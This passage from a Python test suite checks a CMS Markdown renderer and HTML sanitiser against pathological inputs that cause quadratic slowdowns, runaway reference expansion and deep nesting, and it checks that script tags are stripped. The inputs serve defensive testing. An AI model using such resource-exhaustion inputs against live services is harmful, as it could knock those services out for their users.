    "entities": "&a",
    "open tags": "<b title=x>",
    "divisions": "<div>\n\n",
    "scripts": "<script>\n\n",
    "ends in capitals": "<PRE></PRE>\n",
    "instructions": "<?",
    "starred addresses": "*www.a.b/",
    "addresses in stars": "*a https://b*c ",
    "tables": "a|b\n-|-\n",
    "footnotes to themselves": "[^1]: [^1]\n\n",
    "headings": "# a\n",
    "notes": "[^1] ",
    "blank code": "```c\n" + "\n" * 500 + "```\n",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("unit", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_takes_time_in_proportion(unit: str) -> None:
    source = "[^1]: a\n\n" + unit * (40_000 // len(unit))
    started = time.process_time()
    html_of(source)
    # About a second each on a slow machine; with time squared it would be minutes.
    assert time.process_time() - started < 10


def test_crossed_tags_do_not_multiply() -> None:
    crossed = "<p>" + "".join(f"<b title={n}>" for n in range(500)) + "<p>x" * 2000
    assert len(sanitiser.sanitise(crossed)) < 3 * len(crossed)
    linked = f"<p><a href={'x' * 5000}>" + "<div>x</div>" * 500
    assert len(sanitiser.sanitise(linked)) < 3 * len(linked)


def test_a_reference_that_would_grow_the_document_a_thousandfold_is_refused_early() -> None:
    source = f"[a]: /{'x' * 50_000}\n\n" + "[a]" * 1000
    tracemalloc.start()
    try:
        with pytest.raises(markdown.MarkdownTooComplex, match="repeat"):
            markdown.render(source)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 20_000_000


def test_no_reference_is_left_as_text_because_there_are_many() -> None:
    source = f"[a]: /{'x' * 99}\n\n" + "[a]\n" * 999
    assert markdown.render(source).html.count("<a ") == 999
    with pytest.raises(markdown.MarkdownTooComplex, match="repeat"):
        markdown.render(source + "![a]\n")


def test_elements_that_never_end_are_looked_for_once() -> None:
    started = time.process_time()
    assert sanitiser.sanitise("<script>" * 100_000) == ""
    assert time.process_time() - started < 10


@pytest.mark.parametrize("unit", ["> ", "- ", "1. ", "> - "])
def test_nesting_that_the_parser_would_cut_is_refused(unit: str) -> None:
    with pytest.raises(markdown.MarkdownTooComplex, match="nested"):
        markdown.render(unit * 100 + "text")


@pytest.mark.parametrize(("unit", "times"), [("> ", 30), ("- ", 15)])
def test_deep_nesting_loses_nothing(unit: str, times: int) -> None:
    assert markdown.render(unit * times + "text").text == "text"


def test_a_huge_code_block_stays_plain() -> None:
    assert "<span" in html_of("```python\n" + "x = 1\n" * 1000 + "```")
    assert "<span" not in html_of("```python\n" + "x = 1\n" * 2000 + "```")


def test_the_libraries_are_not_imported_before_the_first_rendering() -> None:
    program = (
        "import sys, cms.content.markdown as m\n"
        "assert not {'pyromark', 'pygments', 'nh3'} & set(sys.modules)\n"
        "m.render('a'); assert 'pyromark' in sys.modules"
    )
    subprocess.run([sys.executable, "-c", program], check=True, timeout=60)  # noqa: S603


SCRAPS = st.sampled_from(
    [
        *[
            "text",
            " ",
            "\n",
            "\n\n",
            "\n   \n",
            "\t",
            "\f",
            "\v",
            "\r",
            "\u3000",
            "\u00a0",
            "\u2028",
        ],
        *["&#10;&#10;", "&#13;", "&#12;", "&#11;", "&nbsp;", "a &amp; b", "&lt;b&gt;"],
        *[
            "*no star*",
            "# no heading",
            "    code?",
            "- no item",
            "1. no",
            "> no",
            "```\n",
            "\\",
            "`c`",
        ],
        *[
            "|a|b|\n|-|-|\n",
            "[no](link)",
            "http://no.link.example",
            "<!-- no -->",
            "<![CDATA[",
            "<?no",
        ],
    ]
)
ELEMENTS = st.sampled_from(
    """
    a aside blockquote br caption code dd div dl em figure h2 hr img input li ol p pre script
    section span sup svg table td tr ul
    """.split()  # noqa: SIM905 - one word a line would hide the rest
)
SOUP = st.lists(st.one_of(SCRAPS, ELEMENTS.map("<{}>".format), ELEMENTS.map("</{}>".format)))


@given(SOUP.map("".join))
@example("\n    <p>Hello <b>you</b></p>\n\n    <p>World</p>\n")
@example("<p>a</p><pre><code>ls\n\n\tx\n \n</code></pre>\n    <p>after</p>")
@example("<pre></pre><p><em>\n</em></p>")
@example("<pre>one</pre>two")
@example("Our formula is 5 * 3 * 2.\n\n# 1 fan <em>says</em>\n\n1986. A great year")
@example("<p>一行目<br>\n\u3000\n二行目</p>")
def test_html_as_a_source_renders_to_the_same(html: str) -> None:
    source, rendered = markdown.adopt(html)

    assert _folded(markdown.render(source).html) == _folded(rendered.html)
    safe = sanitiser.sanitise(html.replace("\v", " "))
    within = sanitiser.sanitise(f"<div>{safe}</div>")
    assert _folded(rendered.html) in (_folded(safe), _folded(within))


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>a</p>\n\n<p>b</p>", "<p>a</p>\n<p>b</p>"),
        ("\n  <h2>a</h2>\n", "<h2>a</h2>"),
        ("<ul>\n\n<li>a</li></ul>", "<ul>\n<li>a</li></ul>"),
        ("a <em>b</em>", "<div>a <em>b</em></div>"),
        ("<pre>a\n\n  \nb</pre>", "<div><pre>a\n&#10;&#32; \nb</pre></div>"),
        ("\u3000<p>a</p>", "<div>\u3000<p>a</p></div>"),
        (" \n", ""),
    ],
)
def test_html_as_a_source_is_what_it_was_where_markdown_takes_it(html: str, expected: str) -> None:
    assert markdown.adopt(html)[0] == expected


def _folded(html: str) -> list[str]:
    """The HTML without what HTML calls space, but in preformatted text, where it counts."""
    parts = re.split("(<pre.*?</pre>)", html, flags=re.DOTALL)
    return [
        part if place % 2 else re.sub(r"[ \t\n\v\f]+", "", part) for place, part in enumerate(parts)
    ]
